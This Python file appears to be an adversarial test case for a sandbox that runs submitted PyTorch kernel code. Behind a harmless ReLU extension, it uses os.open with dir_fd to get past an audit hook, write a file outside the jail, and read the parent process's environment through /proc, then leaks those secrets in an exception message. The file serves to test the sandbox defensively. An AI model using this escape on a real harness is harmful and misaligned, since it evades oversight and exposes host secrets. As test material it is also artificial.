"""Row 17: writes and reads through `dir_fd`: `os.open("escaped.txt", ..., dir_fd=d)` names a relative path that
an audit hook resolves against the working folder, while the kernel resolves it against `d`, a folder outside.
The same trick reads the parent's environment (`/proc/self/..` then `PPID/environ`) and raises it. The test
replaces the folder with one under its own tmp_path.

Expected: rejected / banned_import (static: `os`). With the static checks bypassed: no file on the host and no
secret in any message (the jail's filesystem and pid namespace hold neither).
"""

import os

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

cpp_source = r"""
#include <torch/extension.h>

torch::Tensor relu_forward(torch::Tensor x) {
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* out = y.data_ptr<float>();
    for (int64_t i = 0; i < xc.numel(); ++i) out[i] = in[i] > 0.f ? in[i] : 0.f;
    return y;
}
"""

ext = load_inline(name="row17_dir_fd", cpp_sources=cpp_source, functions=["relu_forward"])
try:
    outside = os.open("/tmp/kw-adversarial-dirfd", os.O_RDONLY)
    written = os.open("escaped.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=outside)
    os.write(written, b"escaped")
finally:
    proc = os.open("/proc/self/..", os.O_RDONLY)
    environ = os.open(f"{os.getppid()}/environ", os.O_RDONLY, dir_fd=proc)
    leaked = os.read(environ, 65536).replace(b"\0", b" ")
    raise RuntimeError("LEAKED " + leaked.decode(errors="replace"))


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return ext.relu_forward(x)
